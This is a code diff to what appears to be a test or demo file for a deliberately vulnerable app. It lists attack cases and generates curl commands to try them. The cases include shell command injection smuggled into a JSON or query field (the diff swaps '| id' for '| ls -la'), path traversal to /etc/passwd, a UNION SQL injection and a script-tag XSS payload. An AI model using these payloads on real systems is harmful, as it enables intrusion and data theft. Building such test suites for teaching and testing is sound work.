@@ -84,7 +84,11 @@ const ATTACKS: readonly Omit<TourCase, "kind">[] = [
     request: query("/delivery", "to", 'Oslo"; cat suppliers.txt; echo "'),
     proof: /we buy lamps at 11/,
   },
-  { what: "Shell in JSON: a pipe", request: json("/delivery", { to: 'Oslo" | id; echo "' }), proof: /uid=\d+\S*/ },
+  {
+    what: "Shell in JSON: a pipe",
+    request: json("/delivery", { to: 'Oslo" | ls -la; echo "' }),
+    proof: /suppliers\.txt/,
+  },
   { what: "Path in a query: climbing", request: get("/download?file=../../../etc/passwd"), proof: PLANTED },
   {
     what: "Path in a path, encoded twice",
@@ -190,6 +194,6 @@ export function tryLines(url: string, header: string): string[] {
     `${curl} -G ${url}/products --data-urlencode "q=${UNION}"`,
     `${curl} "${url}/download?file=../../../etc/passwd"`,
     `${curl} ${url}/comments --data-urlencode "text=<script>steal()</script>" -d author=Eve`,
-    `${curl} ${url}/delivery -H content-type:application/json -d '{"to":"Oslo\\" | id; echo \\""}'`,
+    `${curl} ${url}/delivery -H content-type:application/json -d '{"to":"Oslo\\" | ls -la; echo \\""}'`,
   ];
 }
